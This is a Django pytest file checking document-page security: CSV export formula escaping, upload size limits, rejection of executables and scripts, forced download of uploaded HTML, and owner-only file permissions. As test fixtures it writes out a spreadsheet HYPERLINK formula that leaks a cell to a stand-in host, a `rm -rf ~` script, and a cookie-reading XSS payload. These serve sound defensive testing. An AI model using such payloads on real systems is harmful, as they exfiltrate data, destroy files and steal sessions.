"""The documents pages' files: exports a spreadsheet opens safely, uploads within limits, downloads
that are never shown in the browser, and uploaded files readable by their owner only.
"""

from __future__ import annotations

import csv
import io
import stat

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accord.accounts.models import Role
from accord.core.audit import Actor
from accord.decisions.models import Document
from accord.decisions.services import create_document
from tests.accounts.helpers import login_verified, make_user

pytestmark = pytest.mark.django_db


def public_document(title: str) -> Document:
    values = {
        "kind": "report",
        "title_en": title,
        "date": "2022-06-01",
        "classification": 0,
        "releasability": "everyone",
    }
    return create_document(values, actor=Actor.system("tests"))


def test_the_csv_export_writes_formulas_as_text_and_numbers_as_numbers(client):
    public_document('=HYPERLINK("http://x.example/?"&A1,"open")')
    public_document("-5")
    public_document("@SUM(A1:A9)")
    login_verified(client, make_user("sec", Role.SECRETARIAT_OFFICER))
    response = client.get("/documents/export.csv")
    titles = {row["title_en"] for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert '\'=HYPERLINK("http://x.example/?"&A1,"open")' in titles
    assert "'@SUM(A1:A9)" in titles
    assert "-5" in titles
    assert not any(title.startswith(("=", "@")) for title in titles)


def post_document(client, upload: SimpleUploadedFile, title: str = "Signed decision"):
    return client.post(
        "/documents/new/",
        {
            "kind": "decision",
            "title_en": title,
            "date": "2022-06-01",
            "classification": "2",
            "releasability": "members-only",
            "attachment": upload,
        },
    )


@pytest.fixture
def filer(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    login_verified(client, make_user("filer", Role.SECRETARIAT_OFFICER))
    return client


def test_a_file_above_the_limit_is_refused_with_a_message_on_the_form(filer, settings):
    settings.ACCORD_MAX_UPLOAD_BYTES = 1024
    response = post_document(filer, SimpleUploadedFile("big.pdf", b"%PDF-1.4 " + b"x" * 2000))
    assert response.status_code == 200
    assert "The file is 2.0\xa0KB; a file may be at most 1.0\xa0KB." in response.content.decode()
    assert not Document.objects.filter(title_en="Signed decision").exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00"),
        ("report.pdf", b"\x7fELF\x02\x01\x01\x00"),
        ("run.sh", b"echo hello\n"),
        ("notes.txt", b"#!/bin/sh\nrm -rf ~\n"),
    ],
)
def test_programs_and_scripts_are_refused(filer, name, content):
    response = post_document(filer, SimpleUploadedFile(name, content))
    assert response.status_code == 200
    assert "Programs and scripts are not accepted as document files." in response.content.decode()
    assert not Document.objects.filter(title_en="Signed decision").exists()


def test_an_uploaded_page_is_downloaded_never_shown(filer):
    page = b"<html><script>alert(document.cookie)</script></html>"
    response = post_document(filer, SimpleUploadedFile("minutes.html", page, content_type="text/html"))
    assert response.status_code == 302
    document = Document.objects.get(title_en="Signed decision")
    download = filer.get(f"/documents/{document.pk}/file/")
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["Content-Type"] == "application/octet-stream"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == page
    download.close()


def test_uploaded_files_and_their_folders_are_the_owners_only(filer, settings):
    assert post_document(filer, SimpleUploadedFile("decision.pdf", b"%PDF-1.4 signed")).status_code == 302
    document = Document.objects.get(title_en="Signed decision")
    path = settings.MEDIA_ROOT / document.attachment.name
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    folder = path.parent
    while folder != settings.MEDIA_ROOT.parent:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
        folder = folder.parent
